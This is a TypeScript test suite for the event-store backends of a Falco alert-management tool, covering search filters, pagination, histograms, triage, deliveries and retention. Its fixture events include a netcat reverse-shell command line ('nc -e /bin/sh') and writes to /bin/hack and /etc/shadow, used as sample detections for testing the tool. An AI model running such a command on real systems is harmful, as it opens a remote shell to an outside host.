import { afterEach, describe, expect, it } from 'vitest';
import {
  DELIVERY_ATTEMPTS_MAX,
  LosslessNumber,
  type EventQuery,
  type FalcoEvent,
  type FieldValue,
} from '@falconer/contracts';
import { serializeEvent } from '@falconer/falco';
import type { EventStore } from '../event-store';
import { QueryError } from '../event-query';

/** What a backend's spec provides to run the shared scenarios. */
export interface StoreHarness {
  /** A fresh, empty store with this clock (a new key prefix for Redis). */
  make(opts: { maxEvents: number; ttlMs: number; now: () => number }): Promise<EventStore>;
  /**
   * A new store instance over the same data as `store` (a router restart). Only persistent backends
   * provide it; the restart scenario exists only for them.
   */
  reopen?(
    store: EventStore,
    opts: { maxEvents: number; ttlMs: number; now: () => number },
  ): Promise<EventStore>;
  /** Applies retention now when the backend does it in the background (Redis trim), then checks nothing is left behind. */
  afterRetention?(store: EventStore, remainingUuids: readonly string[]): Promise<void>;
}

export const NOW = Date.parse('2026-11-22T12:00:00Z');
const HOUR = 3_600_000;
const DAY = 24 * HOUR;

const fields = (o: Record<string, FieldValue>): Record<string, FieldValue> =>
  Object.assign(Object.create(null) as Record<string, FieldValue>, o);

/** RFC 3339 with nanoseconds, as Falco sends it. */
export function falcoTime(ms: number): string {
  return new Date(ms).toISOString().replace(/\.(\d{3})Z$/, '.$1123456Z');
}

let seq = 0;
export function makeEvent(
  minutesAgo: number,
  over: Partial<FalcoEvent> & { fields?: Record<string, FieldValue> } = {},
): FalcoEvent {
  seq++;
  const { fields: f, ...rest } = over;
  return {
    uuid: `00000000-0000-4000-8000-${String(seq).padStart(12, '0')}`,
    output: `Notice something happened #${seq}`,
    priority: 'Notice',
    rule: 'Some rule',
    time: falcoTime(NOW - minutesAgo * 60_000),
    output_fields: fields(
      f ?? { 'proc.name': 'bash', 'evt.time': new LosslessNumber('1763812800123456789') },
    ),
    source: 'syscall',
    tags: [],
    hostname: 'node-a',
    ...rest,
  };
}

/** A small, varied history: minutes ago decide the order (newest first = smallest). */
function dataset(): Record<string, FalcoEvent> {
  return {
    shell: makeEvent(1, {
      output: 'Notice A shell was spawned in a container <NA> (user=root)',
      rule: 'Terminal shell in container',
      tags: ['T1059', 'container', 'shell'],
      fields: {
        'k8s.ns.name': 'shop',
        'k8s.pod.name': 'web-1',
        'container.image.repository': 'docker.io/library/nginx',
        'proc.cmdline': 'bash',
        'evt.time': new LosslessNumber('1763812740123456789'),
      },
    }),
    write: makeEvent(5, {
      priority: 'Error',
      output: 'Error File below a known binary directory opened for writing (file=/bin/hack)',
      rule: 'Write below binary dir',
      tags: ['filesystem', 'mitre_persistence'],
      hostname: 'node-b',
      fields: {
        'fd.name': '/bin/hack',
        'k8s.ns.name': 'payments',
        'k8s.pod.name': 'api-7',
        'user.loginuid': -1,
      },
    }),
    crit: makeEvent(30, {
      priority: 'Critical',
      output: 'Critical Netcat remote code execution in container',
      rule: 'Netcat Remote Code Execution in Container',
      tags: ['container', 'network'],
      fields: {
        'k8s.ns.name': 'shop',
        'k8s.pod.name': 'web-2',
        'proc.cmdline': 'nc -e /bin/sh 10.0.0.1 4444',
      },
    }),
    audit: makeEvent(90, {
      priority: 'Warning',
      output: 'Warning K8s secret accessed',
      rule: 'K8s Secret Get',
      source: 'k8s_audit',
      tags: ['k8s'],
      hostname: '',
      fields: { 'ka.user.name': 'system:anonymous', 'ka.target.namespace': 'kube-system' },
    }),
    info: makeEvent(3 * 60, {
      priority: 'Informational',
      output: 'Informational Cloudtrail console login',
      rule: 'Console Login',
      source: 'aws_cloudtrail',
      tags: ['cloud'],
      hostname: 'node-c',
      fields: { 'ct.user': 'alice', 'ct.region': 'eu-west-1' },
    }),
    old: makeEvent(3 * 24 * 60, {
      priority: 'Error',
      output: 'Error Old write below etc',
      rule: 'Write below etc',
      tags: ['filesystem'],
      fields: { 'fd.name': '/etc/shadow', 'k8s.ns.name': 'shop' },
    }),
  };
}

/**
 * One scenario suite for every EventStore backend (memory and Redis run exactly these): filters, comma = OR,
 * combinations, `since`, free text, pagination, group-by counts, histogram, deliveries and remediations,
 * export, retention by count and by TTL, and (persistent backends) restart.
 */
export function storeScenarios(name: string, harness: StoreHarness): void {
  describe(`${name}: store scenarios`, () => {
    const open: EventStore[] = [];
    afterEach(async () => {
      for (const s of open.splice(0)) await s.close();
    });

    const fresh = async (
      opts: Partial<{ maxEvents: number; ttlMs: number; now: () => number }> = {},
    ): Promise<EventStore> => {
      const s = await harness.make({ maxEvents: 1000, ttlMs: 7 * DAY, now: () => NOW, ...opts });
      open.push(s);
      return s;
    };

    const loaded = async (): Promise<{ store: EventStore; ev: Record<string, FalcoEvent> }> => {
      const store = await fresh();
      const ev = dataset();
      // recorded out of time order on purpose: answers are ordered by the event's time
      for (const key of ['info', 'shell', 'old', 'crit', 'write', 'audit'])
        await store.record(ev[key] as FalcoEvent);
      return { store, ev };
    };

    const uuids = async (store: EventStore, query: EventQuery, page = 1, limit = 100): Promise<string[]> =>
      (await store.search(query, { page, limit })).results.map((e) => e.uuid);

    const names = (ev: Record<string, FalcoEvent>, ...keys: string[]): string[] =>
      keys.map((k) => (ev[k] as FalcoEvent).uuid);

    it('returns every event newest first by its time, byte for byte as recorded (19-digit numbers kept)', async () => {
      const { store, ev } = await loaded();
      const r = await store.search({}, { page: 1, limit: 100 });
      expect(r.total).toBe(6);
      expect(r.results.map((e) => e.uuid)).toEqual(
        names(ev, 'shell', 'write', 'crit', 'audit', 'info', 'old'),
      );
      expect(r.results.map((e) => serializeEvent(e))).toEqual(
        ['shell', 'write', 'crit', 'audit', 'info', 'old'].map((k) => serializeEvent(ev[k] as FalcoEvent)),
      );
      expect(serializeEvent(r.results[0] as FalcoEvent)).toContain('"evt.time":1763812740123456789');
      expect(await store.count({})).toBe(6);
    });

    it('filters by each parameter, comma meaning OR', async () => {
      const { store, ev } = await loaded();
      expect(await uuids(store, { priority: ['Error'] })).toEqual(names(ev, 'write', 'old'));
      expect(await uuids(store, { priority: ['critical,error'] })).toEqual(names(ev, 'write', 'crit', 'old'));
      expect(await uuids(store, { priority: ['info'] })).toEqual(names(ev, 'info'));
      expect(await uuids(store, { rule: ['Write below binary dir,Console Login'] })).toEqual(
        names(ev, 'write', 'info'),
      );
      expect(await uuids(store, { source: ['k8s_audit'] })).toEqual(names(ev, 'audit'));
      expect(await uuids(store, { source: ['aws_cloudtrail,k8s_audit'] })).toEqual(
        names(ev, 'audit', 'info'),
      );
      expect(await uuids(store, { hostname: ['node-b,node-c'] })).toEqual(names(ev, 'write', 'info'));
      expect(await uuids(store, { tags: ['container'] })).toEqual(names(ev, 'shell', 'crit'));
      // an event with both tags comes out once
      expect(await uuids(store, { tags: ['container,shell,filesystem'] })).toEqual(
        names(ev, 'shell', 'write', 'crit', 'old'),
      );
      expect(await uuids(store, { namespace: ['shop'] })).toEqual(names(ev, 'shell', 'crit', 'old'));
      expect(await uuids(store, { namespace: ['payments,shop'] })).toEqual(
        names(ev, 'shell', 'write', 'crit', 'old'),
      );
      expect(await uuids(store, { pod: ['web-1,api-7'] })).toEqual(names(ev, 'shell', 'write'));
      expect(await uuids(store, { rule: ['No such rule'] })).toEqual([]);
      expect(await store.count({ tags: ['container,shell,filesystem'] })).toBe(4);
      expect(await store.count({ priority: ['critical,error'] })).toBe(3);
    });

    it('combines parameters with AND', async () => {
      const { store, ev } = await loaded();
      expect(
        await uuids(store, { priority: ['Error'], tags: ['filesystem'], namespace: ['payments'] }),
      ).toEqual(names(ev, 'write'));
      expect(await uuids(store, { tags: ['container,filesystem'], namespace: ['shop'] })).toEqual(
        names(ev, 'shell', 'crit', 'old'),
      );
      expect(
        await uuids(store, { priority: ['Critical,Notice'], hostname: ['node-a'], since: '1h' }),
      ).toEqual(names(ev, 'shell', 'crit'));
      expect(await uuids(store, { source: ['syscall'], tags: ['network'], pod: ['web-2'] })).toEqual(
        names(ev, 'crit'),
      );
      expect(await uuids(store, { rule: ['Console Login'], tags: ['container'] })).toEqual([]);
      expect(await store.count({ tags: ['container,filesystem'], namespace: ['shop'], since: '2d' })).toBe(2);
    });

    it('understands since in minutes, hours, days and seconds, and from/to', async () => {
      const { store, ev } = await loaded();
      expect(await uuids(store, { since: '15m' })).toEqual(names(ev, 'shell', 'write'));
      expect(await uuids(store, { since: '2h' })).toEqual(names(ev, 'shell', 'write', 'crit', 'audit'));
      expect(await uuids(store, { since: '7d' })).toHaveLength(6);
      expect(await uuids(store, { since: '120' })).toEqual(names(ev, 'shell'));
      expect(await uuids(store, { since: '4h', priority: ['Informational'] })).toEqual(names(ev, 'info'));
      expect(
        await uuids(store, { from: falcoTime(NOW - 2 * HOUR), to: falcoTime(NOW - 10 * 60_000) }),
      ).toEqual(names(ev, 'crit', 'audit'));
      await expect(store.search({ since: 'banana' }, { page: 1, limit: 10 })).rejects.toBeInstanceOf(
        QueryError,
      );
      await expect(store.count({ priority: ['urgent'] })).rejects.toMatchObject({ field: 'priority' });
    });

    it('searches free text over output, rule, tags and field values, case-insensitively', async () => {
      const { store, ev } = await loaded();
      expect(await uuids(store, { filter: 'NETCAT' })).toEqual(names(ev, 'crit'));
      expect(await uuids(store, { filter: 'console login' })).toEqual(names(ev, 'info'));
      expect(await uuids(store, { filter: 'mitre_persistence' })).toEqual(names(ev, 'write'));
      expect(await uuids(store, { filter: 'system:anonymous' })).toEqual(names(ev, 'audit'));
      expect(await uuids(store, { filter: '/bin/' })).toEqual(names(ev, 'write', 'crit'));
      // characters that are escaped in the stored JSON
      expect(await uuids(store, { filter: '<na>' })).toEqual(names(ev, 'shell'));
      expect(await uuids(store, { filter: 'user=root)' })).toEqual(names(ev, 'shell'));
      // a 19-digit number as written, and a negative number
      expect(await uuids(store, { filter: '1763812740123456789' })).toEqual(names(ev, 'shell'));
      expect(await uuids(store, { filter: '-1' })).toEqual(names(ev, 'shell', 'write', 'info'));
      // field names are not searched, only values
      expect(await uuids(store, { filter: 'ka.user.name' })).toEqual([]);
      expect(await uuids(store, { filter: 'shop', priority: ['Critical'] })).toEqual(names(ev, 'crit'));
      expect(await store.count({ filter: 'write' })).toBe(2);
      expect(await store.count({ filter: '  ' })).toBe(6);
    });

    it('folds case beyond ASCII in free text', async () => {
      const store = await fresh();
      const cafe = makeEvent(3, { output: 'Notice Café ÉTÉ crème brûlée', fields: { 'user.name': 'Ørjan' } });
      await store.record(cafe);
      await store.record(makeEvent(2));
      expect(await uuids(store, { filter: 'été' })).toEqual([cafe.uuid]);
      expect(await uuids(store, { filter: 'CAFÉ ÉTÉ' })).toEqual([cafe.uuid]);
      expect(await uuids(store, { filter: 'ørjan' })).toEqual([cafe.uuid]);
      expect(await uuids(store, { filter: 'BRÛLÉE' })).toEqual([cafe.uuid]);
      expect(await store.count({ filter: 'crème' })).toBe(1);
    });

    it('paginates (1-based) with the total of all matches', async () => {
      const store = await fresh();
      const evs = Array.from({ length: 25 }, (_, i) =>
        makeEvent(i + 1, { priority: i % 2 === 0 ? 'Warning' : 'Notice', tags: ['t' + (i % 3)] }),
      );
      for (const e of evs) await store.record(e);
      const p1 = await store.search({}, { page: 1, limit: 10 });
      const p3 = await store.search({}, { page: 3, limit: 10 });
      expect(p1.total).toBe(25);
      expect(p1.results.map((e) => e.uuid)).toEqual(evs.slice(0, 10).map((e) => e.uuid));
      expect(p3.results.map((e) => e.uuid)).toEqual(evs.slice(20).map((e) => e.uuid));
      expect((await store.search({}, { page: 4, limit: 10 })).results).toEqual([]);
      const warn = evs.filter((e) => e.priority === 'Warning');
      const w2 = await store.search({ priority: ['warning'] }, { page: 2, limit: 5 });
      expect(w2.total).toBe(13);
      expect(w2.results.map((e) => e.uuid)).toEqual(warn.slice(5, 10).map((e) => e.uuid));
      const t = evs.filter((e) => e.tags[0] !== 't1');
      const tp = await store.search({ tags: ['t0,t2'] }, { page: 2, limit: 4 });
      expect(tp.total).toBe(t.length);
      expect(tp.results.map((e) => e.uuid)).toEqual(t.slice(4, 8).map((e) => e.uuid));
      const text = await store.search({ filter: 'happened', priority: ['Notice'] }, { page: 3, limit: 5 });
      expect(text.total).toBe(12);
      expect(text.results.map((e) => e.uuid)).toEqual(
        evs
          .filter((e) => e.priority === 'Notice')
          .slice(10)
          .map((e) => e.uuid),
      );
    });

    it('counts by group, one count per tag', async () => {
      const { store } = await loaded();
      expect(await store.countBy('priority', {})).toEqual({
        Notice: 1,
        Error: 2,
        Critical: 1,
        Warning: 1,
        Informational: 1,
      });
      expect(await store.countBy('tags', {})).toEqual({
        T1059: 1,
        container: 2,
        shell: 1,
        filesystem: 2,
        mitre_persistence: 1,
        network: 1,
        k8s: 1,
        cloud: 1,
      });
      expect(await store.countBy('source', { since: '1d' })).toEqual({
        syscall: 3,
        k8s_audit: 1,
        aws_cloudtrail: 1,
      });
      expect(await store.countBy('hostname', {})).toEqual({ 'node-a': 3, 'node-b': 1, 'node-c': 1, '': 1 });
      expect(await store.countBy('rule', { priority: ['Error'] })).toEqual({
        'Write below binary dir': 1,
        'Write below etc': 1,
      });
      expect(await store.countBy('k8s.ns.name', {})).toEqual({ shop: 3, payments: 1 });
      expect(await store.countBy('k8s.ns.name', { tags: ['container'] })).toEqual({ shop: 2 });
      expect(await store.countBy('k8s.pod.name', { since: '1h' })).toEqual({
        'web-1': 1,
        'api-7': 1,
        'web-2': 1,
      });
      expect(await store.countBy('container.image.repository', {})).toEqual({ 'docker.io/library/nginx': 1 });
      expect(await store.countBy('tags', { filter: 'container' })).toEqual({
        T1059: 1,
        container: 2,
        shell: 1,
        network: 1,
      });
      expect(await store.countBy('priority', { since: '10m' })).toEqual({ Notice: 1, Error: 1 });
    });

    it('builds a histogram per time bucket and priority', async () => {
      const { store } = await loaded();
      const h = await store.histogram({ since: '2h' }, HOUR);
      expect(h.interval).toBe('3600s');
      expect(h.buckets).toEqual([
        { time: '2026-11-22T10:00:00.000Z', counts: { Warning: 1 } },
        { time: '2026-11-22T11:00:00.000Z', counts: { Notice: 1, Error: 1, Critical: 1 } },
      ]);
      const filtered = await store.histogram({ tags: ['container'] }, DAY);
      expect(filtered.buckets).toEqual([
        { time: '2026-11-22T00:00:00.000Z', counts: { Notice: 1, Critical: 1 } },
      ]);
      const byPriority = await store.histogram({ priority: ['Error'] }, DAY);
      expect(byPriority.buckets).toEqual([
        { time: '2026-11-19T00:00:00.000Z', counts: { Error: 1 } },
        { time: '2026-11-22T00:00:00.000Z', counts: { Error: 1 } },
      ]);
    });

    it("keeps Falconer's silenced mark with the event, in search results and the detail", async () => {
      const store = await fresh();
      const e = { ...makeEvent(1), silenced: ['s-1'] };
      await store.record(e);
      expect((await store.search({}, { page: 1, limit: 10 })).results[0]?.silenced).toEqual(['s-1']);
      expect((await store.get(e.uuid))?.event.silenced).toEqual(['s-1']);
    });

    it('keeps delivery status per output and remediation records with the event', async () => {
      const { store, ev } = await loaded();
      const uuid = (ev['crit'] as FalcoEvent).uuid;
      expect(
        await store.setDelivery(uuid, {
          output: 'slack',
          state: 'queued',
          attempts: 0,
          updatedAt: '2026-11-22T11:30:00Z',
        }),
      ).toBe(true);
      await store.setDelivery(uuid, {
        output: 'webhook',
        state: 'retrying',
        attempts: 1,
        reason: 'server_error',
        detail: 'HTTP 502',
        updatedAt: '2026-11-22T11:30:01Z',
      });
      await store.setDelivery(uuid, {
        output: 'slack',
        state: 'delivered',
        attempts: 1,
        reason: 'ok',
        updatedAt: '2026-11-22T11:30:02Z',
      });
      const rec = {
        uuid,
        rule: 'Netcat Remote Code Execution in Container',
        action: 'delete_pod',
        outcome: 'acted' as const,
        target: { namespace: 'shop', pod: 'web-2' },
        at: '2026-11-22T11:30:03Z',
      };
      expect(await store.addRemediation(rec)).toBe(true);
      const d = await store.get(uuid);
      expect(d?.event.uuid).toBe(uuid);
      expect(serializeEvent(d?.event as FalcoEvent)).toBe(serializeEvent(ev['crit'] as FalcoEvent));
      expect([...(d?.deliveries ?? [])].sort((a, b) => a.output.localeCompare(b.output))).toEqual([
        { output: 'slack', state: 'delivered', attempts: 1, reason: 'ok', updatedAt: '2026-11-22T11:30:02Z' },
        {
          output: 'webhook',
          state: 'retrying',
          attempts: 1,
          reason: 'server_error',
          detail: 'HTTP 502',
          updatedAt: '2026-11-22T11:30:01Z',
        },
      ]);
      expect(d?.remediations).toEqual([rec]);
      expect(await store.get('no-such-uuid')).toBeUndefined();
      expect(
        await store.setDelivery('no-such-uuid', {
          output: 'slack',
          state: 'queued',
          attempts: 0,
          updatedAt: '2026-11-22T11:30:00Z',
        }),
      ).toBe(false);
      expect(await store.addRemediation({ ...rec, uuid: 'no-such-uuid' })).toBe(false);
      expect((await store.get((ev['shell'] as FalcoEvent).uuid))?.deliveries).toEqual([]);
    });

    it('keeps a triage state per event with who and when, filters by it and keeps its history', async () => {
      const { store, ev } = await loaded();
      const [crit, write, shell] = names(ev, 'crit', 'write', 'shell') as [string, string, string];
      expect((await store.get(crit))?.triage).toEqual({ state: 'new' });
      const ack = { state: 'acknowledged' as const, by: 'alice', at: '2026-11-22T11:40:00Z' };
      expect(await store.setTriage(crit, ack)).toBe('changed');
      expect(await store.setTriage(crit, { ...ack, by: 'bob' })).toBe('unchanged');
      expect(await store.setTriage(write, { state: 'resolved', by: 'bob', at: '2026-11-22T11:41:00Z' })).toBe(
        'changed',
      );
      expect(await store.setTriage('no-such-uuid', ack)).toBe('missing');
      expect(await uuids(store, { triage: ['acknowledged'] })).toEqual([crit]);
      expect(await uuids(store, { triage: ['Resolved,acknowledged'] })).toEqual([write, crit]);
      expect(await uuids(store, { triage: ['new'] })).toEqual(names(ev, 'shell', 'audit', 'info', 'old'));
      expect(await uuids(store, { triage: ['new,resolved'] })).toEqual(
        names(ev, 'shell', 'write', 'audit', 'info', 'old'),
      );
      expect(await uuids(store, { triage: ['new', 'acknowledged', 'resolved'] })).toHaveLength(6);
      // combined with indexed conditions, free text and time
      expect(await uuids(store, { triage: ['new'], priority: ['Error'] })).toEqual(names(ev, 'old'));
      expect(await uuids(store, { triage: ['acknowledged'], filter: 'netcat' })).toEqual([crit]);
      expect(await uuids(store, { triage: ['new'], tags: ['container'], since: '1h' })).toEqual([shell]);
      expect(await store.count({ triage: ['new'] })).toBe(4);
      expect(await store.count({ triage: ['resolved'] })).toBe(1);
      expect(await store.countBy('priority', { triage: ['acknowledged,resolved'] })).toEqual({
        Critical: 1,
        Error: 1,
      });
      expect((await store.histogram({ triage: ['resolved'] }, DAY)).buckets).toEqual([
        { time: '2026-11-22T00:00:00.000Z', counts: { Error: 1 } },
      ]);
      const exported: string[] = [];
      for await (const e of store.export({ triage: ['acknowledged'] })) exported.push(e.uuid);
      expect(exported).toEqual([crit]);
      await expect(store.count({ triage: ['done'] })).rejects.toMatchObject({ field: 'triage' });

      const back = { state: 'new' as const, by: 'carol', at: '2026-11-22T11:42:00Z' };
      const done = { state: 'resolved' as const, by: 'carol', at: '2026-11-22T11:43:00Z' };
      expect(await store.setTriage(crit, back)).toBe('changed');
      expect(await store.setTriage(crit, done)).toBe('changed');
      const d = await store.get(crit);
      expect(d?.triage).toEqual(done);
      expect(d?.triageHistory).toEqual([ack, back, done]);
      expect(await uuids(store, { triage: ['acknowledged'] })).toEqual([]);
      expect(await uuids(store, { triage: ['resolved'] })).toEqual([write, crit]);
      const marks = await store.triageOf([crit, shell, write, 'no-such-uuid']);
      expect([...marks.entries()].sort()).toEqual(
        [
          [crit, done],
          [write, { state: 'resolved', by: 'bob', at: '2026-11-22T11:41:00Z' }],
        ].sort(),
      );
    });

    it('keeps the routing decision and every delivery attempt, a bounded number per output', async () => {
      const { store, ev } = await loaded();
      const uuid = (ev['audit'] as FalcoEvent).uuid;
      const routing = {
        receivedAt: '2026-11-22T11:00:00.000Z',
        matched: ['slack', 'webhook'],
        filtered: ['es'],
      };
      expect(await store.setRouting(uuid, routing)).toBe(true);
      expect(await store.setRouting('no-such-uuid', routing)).toBe(false);
      for (let i = 1; i <= DELIVERY_ATTEMPTS_MAX + 5; i++)
        await store.setDelivery(uuid, {
          output: 'webhook',
          state: 'retrying',
          attempts: i,
          reason: 'server_error',
          detail: `HTTP 50${i % 10}`,
          updatedAt: `2026-11-22T11:00:${String(i).padStart(2, '0')}Z`,
        });
      await store.setDelivery(uuid, {
        output: 'slack',
        state: 'delivered',
        attempts: 1,
        reason: 'ok',
        updatedAt: '2026-11-22T11:00:01Z',
      });
      await store.setDelivery(uuid, {
        output: 'silenced-out',
        state: 'silenced',
        attempts: 0,
        detail: 'silence-1',
        updatedAt: '2026-11-22T11:00:00Z',
      });
      const d = await store.get(uuid);
      expect(d?.routing).toEqual(routing);
      const attempts = d?.attempts ?? [];
      const hook = attempts.filter((a) => a.output === 'webhook');
      expect(hook).toHaveLength(DELIVERY_ATTEMPTS_MAX);
      expect(hook.map((a) => a.attempt)).toEqual(
        Array.from({ length: DELIVERY_ATTEMPTS_MAX }, (_, i) => i + 6),
      );
      expect(hook[0]).toEqual({
        output: 'webhook',
        attempt: 6,
        state: 'retrying',
        reason: 'server_error',
        detail: 'HTTP 506',
        at: '2026-11-22T11:00:06Z',
      });
      expect(attempts.filter((a) => a.output === 'slack')).toEqual([
        { output: 'slack', attempt: 1, state: 'delivered', reason: 'ok', at: '2026-11-22T11:00:01Z' },
      ]);
      expect(attempts.filter((a) => a.output === 'silenced-out')).toEqual([
        {
          output: 'silenced-out',
          attempt: 0,
          state: 'silenced',
          detail: 'silence-1',
          at: '2026-11-22T11:00:00Z',
        },
      ]);
      const other = await store.get((ev['info'] as FalcoEvent).uuid);
      expect(other?.routing).toBeUndefined();
      expect(other?.attempts).toEqual([]);
      expect(other?.triageHistory).toEqual([]);
    });

    it('exports every match newest first, past any page size', async () => {
      const store = await fresh({ maxEvents: 5000 });
      const evs = Array.from({ length: 1203 }, (_, i) =>
        makeEvent(i / 10, {
          priority: i % 3 === 0 ? 'Critical' : 'Notice',
          tags: i % 2 === 0 ? ['a'] : ['a', 'b'],
        }),
      );
      for (const e of evs) await store.record(e);
      const out: string[] = [];
      for await (const e of store.export({ tags: ['a,b'] })) out.push(e.uuid);
      expect(out).toEqual(evs.map((e) => e.uuid));
      const crit: string[] = [];
      for await (const e of store.export({ priority: ['Critical'], filter: 'HAPPENED' })) crit.push(e.uuid);
      expect(crit).toEqual(evs.filter((e) => e.priority === 'Critical').map((e) => e.uuid));
      expect(await store.count({ tags: ['b'] })).toBe(601);
      // 1 201 writes, one round trip each with Redis: seconds on a loaded 2-core machine
    }, 60_000);

    it('keeps at most maxEvents, dropping the oldest', async () => {
      const store = await fresh({ maxEvents: 5 });
      const evs = Array.from({ length: 8 }, (_, i) =>
        makeEvent(80 - i * 10, { tags: ['x'], fields: { 'k8s.ns.name': 'ns' + (i % 2) } }),
      );
      for (const [i, e] of evs.entries()) {
        await store.record(e);
        // every kept and evicted event carries a triage state, a routing record and an attempt
        await store.setTriage(e.uuid, { state: 'acknowledged', by: 'u', at: '2026-11-22T11:00:00Z' });
        await store.setRouting(e.uuid, { receivedAt: '2026-11-22T11:00:00Z', matched: ['o'], filtered: [] });
        await store.setDelivery(e.uuid, {
          output: 'o',
          state: 'delivered',
          attempts: 1,
          updatedAt: String(i),
        });
      }
      // 8 acknowledged, 3 evicted with their state
      expect(await store.count({ triage: ['acknowledged'] })).toBe(5);
      const kept = evs
        .slice(3)
        .reverse()
        .map((e) => e.uuid);
      expect(await uuids(store, {})).toEqual(kept);
      expect(await store.count({ tags: ['x'] })).toBe(5);
      expect(await store.countBy('k8s.ns.name', {})).toEqual({ ns0: 2, ns1: 3 });
      expect(await store.get((evs[0] as FalcoEvent).uuid)).toBeUndefined();
      await harness.afterRetention?.(store, kept);
    });

    it('forgets events the TTL after they were received, whatever their own time (like falcosidekick-ui)', async () => {
      let now = NOW;
      const store = await fresh({ ttlMs: 2 * HOUR, now: () => now });
      // received at NOW: one dated 100 min back, one 3 h back (past the TTL by its own time: still kept)
      const early = [makeEvent(100, { priority: 'Error', tags: ['t'] }), makeEvent(3 * 60, { tags: ['t'] })];
      for (const e of early) await store.record(e);
      expect(await store.count({})).toBe(2);
      expect(await store.get((early[1] as FalcoEvent).uuid)).toBeDefined();
      now = NOW + HOUR;
      const late = [makeEvent(50, { tags: ['t'] }), makeEvent(10, { tags: ['t'] })];
      for (const e of late) await store.record(e);
      expect(await store.count({})).toBe(4);
      // the first two were received more than 2 h ago, the last two 1 h ago
      now = NOW + 2 * HOUR + 60_000;
      const kept = [(late[1] as FalcoEvent).uuid, (late[0] as FalcoEvent).uuid];
      expect(await uuids(store, {})).toEqual(kept);
      expect(await store.count({ priority: ['Error'] })).toBe(0);
      expect(await store.countBy('tags', {})).toEqual({ t: 2 });
      expect(await store.countBy('priority', {})).toEqual({ Notice: 2 });
      expect(await store.get((early[0] as FalcoEvent).uuid)).toBeUndefined();
      expect(
        await store.addRemediation({
          uuid: (early[0] as FalcoEvent).uuid,
          rule: 'r',
          action: 'a',
          outcome: 'skipped',
          at: '2026-11-22T12:00:00Z',
        }),
      ).toBe(false);
      await harness.afterRetention?.(store, kept);
    });

    it('keeps at most maxEvents by order of receipt, not by their own time', async () => {
      const store = await fresh({ maxEvents: 3 });
      // the newest by its own time arrives first, then three older ones
      const evs = [makeEvent(1), makeEvent(300), makeEvent(200), makeEvent(100)];
      for (const e of evs) await store.record(e);
      const kept = evs
        .slice(1)
        .reverse()
        .map((e) => e.uuid);
      expect(await uuids(store, {})).toEqual(kept);
      await harness.afterRetention?.(store, kept);
    });

    if (harness.reopen !== undefined) {
      const reopen = harness.reopen.bind(harness);
      it('keeps history, deliveries and remediations across a restart', async () => {
        const { store, ev } = await loaded();
        const uuid = (ev['write'] as FalcoEvent).uuid;
        await store.setDelivery(uuid, {
          output: 'slack',
          state: 'delivered',
          attempts: 1,
          updatedAt: '2026-11-22T11:56:00Z',
        });
        await store.addRemediation({
          uuid,
          rule: 'Write below binary dir',
          action: 'delete_pod',
          outcome: 'dry_run',
          at: '2026-11-22T11:56:01Z',
        });
        await store.setTriage(uuid, { state: 'resolved', by: 'dave', at: '2026-11-22T11:57:00Z' });
        await store.close();
        open.splice(open.indexOf(store), 1);
        const again = await reopen(store, { maxEvents: 1000, ttlMs: 7 * DAY, now: () => NOW });
        open.push(again);
        expect(await uuids(again, {})).toEqual(names(ev, 'shell', 'write', 'crit', 'audit', 'info', 'old'));
        expect(await uuids(again, { tags: ['filesystem'], filter: 'hack' })).toEqual(names(ev, 'write'));
        const d = await again.get(uuid);
        expect(d?.deliveries).toHaveLength(1);
        expect(d?.remediations).toHaveLength(1);
        expect(d?.triage).toMatchObject({ state: 'resolved', by: 'dave' });
        expect(await uuids(again, { triage: ['resolved'] })).toEqual([uuid]);
        await again.record(makeEvent(0, { rule: 'After restart' }));
        expect(await again.count({})).toBe(7);
      });
    }
  });
}
